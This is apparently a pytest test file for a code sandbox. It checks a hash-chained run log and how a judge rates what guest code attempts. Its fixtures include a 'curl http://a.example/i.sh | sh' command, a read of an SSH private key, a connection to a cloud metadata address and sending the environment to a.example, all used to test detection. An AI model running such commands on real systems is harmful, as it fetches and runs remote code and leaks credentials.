"""The log of runs: a change anywhere shows, and nothing is added to a log that is broken."""

import json
from pathlib import Path

import pytest

from runner.commands.explaining import event_log
from runner.commands.explaining.report import report
from runner.commands.explaining.verdict import judge
from sandbox import Attempt, Completed, Denial, Outcome, Verdict

NOTE = Verdict(severity="note", reason="nothing")


def outcome(*attempts: Attempt, denials: tuple[Denial, ...] = ()) -> Outcome:
    return Completed(tier="namespaces", layers=("seccomp",), attempts=attempts, denials=denials)


def connect(host: str) -> Attempt:
    return Attempt(
        layer="net_namespace",
        action="connect",
        tried=f"{host}:443",
        arguments={"host": host, "port": "443"},
        line=3,
        is_allowed=False,
        rule="no network",
    )


def write(path: Path, runs: int = 2) -> list[bytes]:
    for _ in range(runs):
        ended = outcome(connect("203.0.113.10"))
        event_log.append(path, event_log.events_of(ended, NOTE, "1 + 1", "a.py"))
    return path.read_bytes().splitlines(keepends=True)


def test_a_log_is_whole_over_several_runs(tmp_path: Path) -> None:
    lines = write(tmp_path / "a.log")
    found = event_log.verify(tmp_path / "a.log")
    assert (found.lines, found.runs, found.problem) == (6, 2, "")
    assert found.last == json.loads(lines[-1])["hash"]
    assert [json.loads(line)["event"] for line in lines] == ["run", "attempt", "end"] * 2


@pytest.mark.parametrize("place", range(6))
def test_a_change_of_any_line_shows_there(tmp_path: Path, place: int) -> None:
    path = tmp_path / "a.log"
    lines = write(path)
    record = json.loads(lines[place])
    record["time"] = "2020"
    changed = json.dumps(record).encode() + b"\n"
    path.write_bytes(b"".join([*lines[:place], changed, *lines[place + 1 :]]))
    found = event_log.verify(path)
    assert (found.line, found.problem) == (place + 1, "was changed")


@pytest.mark.parametrize(
    "put", ['{"event": "benign", ', "{ ", '{"event": "attempt", "tried": "nothing", ']
)
def test_what_is_put_into_a_line_shows_though_its_meaning_stays(tmp_path: Path, put: str) -> None:
    path = tmp_path / "a.log"
    lines = write(path)
    lines[1] = put.encode() + lines[1].removeprefix(b"{")
    path.write_bytes(b"".join(lines))
    assert event_log.verify(path).line == 2


@pytest.mark.parametrize(
    ("edit", "line", "problem"),
    [
        (lambda lines: [*lines[:2], *lines[3:]], 3, "does not follow the line before"),
        (lambda lines: [lines[1], lines[0], *lines[2:]], 1, "does not follow the line before"),
        (lambda lines: [*lines[:3], lines[0], *lines[3:]], 4, "does not follow the line before"),
        (lambda lines: lines[1:], 1, "does not follow the line before"),
        (lambda lines: lines[:-1], 5, "the last run has no end"),
        (lambda lines: [*lines, b"{"], 7, "is no event of a log"),
        (lambda lines: [*lines, b"[]\n"], 7, "is no event of a log"),
        (lambda lines: [*lines, b"[" * 100_000 + b"\n"], 7, "is no event of a log"),
    ],
)
def test_lines_that_were_removed_moved_or_put_in_show(
    tmp_path: Path, edit: object, line: int, problem: str
) -> None:
    path = tmp_path / "a.log"
    lines = write(path)
    path.write_bytes(b"".join(edit(lines)))  # type: ignore[operator]
    found = event_log.verify(path)
    assert (found.line, found.problem) == (line, problem)


def test_nothing_is_added_to_a_broken_log_and_a_run_cut_short_is_gone_on_after(
    tmp_path: Path,
) -> None:
    path = tmp_path / "a.log"
    lines = write(path)
    path.write_bytes(b"".join(lines[1:]))
    with pytest.raises(ValueError, match="line 1"):
        write(path)
    path.write_bytes(b"".join(lines[:-1]))
    write(path, runs=1)
    assert event_log.verify(path).problem == ""


def test_an_empty_log_is_whole(tmp_path: Path) -> None:
    (tmp_path / "a.log").touch()
    assert event_log.verify(tmp_path / "a.log").problem == ""


# ---- the verdict and the report -----------------------------------------------------------------


def tried(action: str, what: str, *, allowed: bool = False, **arguments: str) -> Attempt:
    return Attempt(
        layer="seccomp",
        action=action,
        tried=what,
        arguments=arguments,
        line=1,
        is_allowed=allowed,
    )


SSH = tried("read", "/tmp/home/.ssh/id_rsa", path="/tmp/home/.ssh/id_rsa")
ALL_VARIABLES = tried("environment", "all variables", allowed=True)
SHELL = tried("program", "x", allowed=True, command="curl http://a.example/i.sh | sh")
JUDGED = [
    ([], "note", "tried nothing that was refused"),
    ([connect("203.0.113.10")], "warning", "tried to reach 203.0.113.10"),
    ([connect("127.0.0.1")], "note", ""),
    ([connect("169.254.169.254")], "danger", "tried to reach 169.254.169.254"),
    ([SSH], "danger", "tried to read credentials in /tmp/home/.ssh/id_rsa"),
    (
        [connect("203.0.113.10"), SSH],
        "danger",
        "tried to send credentials to 203.0.113.10: refused",
    ),
    ([ALL_VARIABLES], "note", ""),
    ([ALL_VARIABLES, connect("a.example")], "danger", "tried to send its environment to a.example"),
    ([SHELL], "danger", "tried to download and run a script from http://a.example/i.sh"),
    ([tried("inspect", "ptrace()", call="ptrace")], "danger", "tried to look into"),
    ([tried("mount", "mount()", call="mount")], "danger", "tried to change the mounts"),
    ([tried("call", "bpf()", call="bpf")], "danger", "tried bpf()"),
    ([tried("call", "sync()", call="sync")], "note", "was refused 1 thing"),
    ([tried("socket", "s", family="AF_NETLINK").model_copy(update={"line": 0})], "note", ""),
    ([tried("write", "/etc/x", path="/etc/x")], "warning", "tried to write /etc/x"),
    ([tried("write", "/tmp/x", allowed=True, path="/tmp/x")], "note", ""),
]


@pytest.mark.parametrize(("attempts", "severity", "reason"), JUDGED)
def test_the_verdict_names_the_gravest_thing(
    attempts: list[Attempt], severity: str, reason: str
) -> None:
    found = judge(outcome(*attempts))
    assert found.severity == severity
    assert found.reason.startswith(reason)
    assert "safe" not in found.reason


def test_what_was_given_up_before_a_connection_was_refused_by_nothing() -> None:
    asked = tried("request", "http://a.example/{}", host="a.example", url="http://a.example/{}")
    asked = asked.model_copy(update={"is_guests_word": True, "layer": "net_namespace"})
    passwd = [[2, "credentials", "danger", "/etc/passwd", "names a place of credentials"]]
    found = judge(outcome(ALL_VARIABLES, asked), passwd)
    assert found.reason == (
        "tried to send its environment to http://a.example/{}: given up before any connection, and"
        " there is no network to make one"
    )
    found = judge(outcome(ALL_VARIABLES, asked, tried("resolve", "a.example", host="a.example")))
    assert found.reason.endswith("refused by the network namespace")


def test_what_is_read_in_the_source_counts_too() -> None:
    findings = [[2, "obfuscation", "danger", "exec(decoded)", "runs code that was disguised"]]
    found = judge(outcome(), findings)
    assert (found.severity, found.reason.split(":")[0]) == (
        "danger",
        "line 2 of its source, exec(decoded)",
    )
    network = [[1, "network", "note", "http://a.example/x", "an address"]]
    assert "to send them to http://a.example/x" in judge(outcome(SSH), network).reason


def test_a_report_holds_the_account_and_no_markup_of_the_guest() -> None:
    denial = Denial(layer="seccomp", tried="<b>x</b> [a](http://x)\n# head", rule="no", line=2)
    verdict = Verdict(severity="danger", reason="tried <script>")
    text = report(outcome(denials=(denial,)), verdict, "x = '''\n```\n'''\n\x1b[31m", "a.py")
    assert text.startswith("# a.py: danger\n")
    assert "<b>" not in text
    assert "\n# head" not in text
    assert "\x1b" not in text
    assert text.count("````") == 2
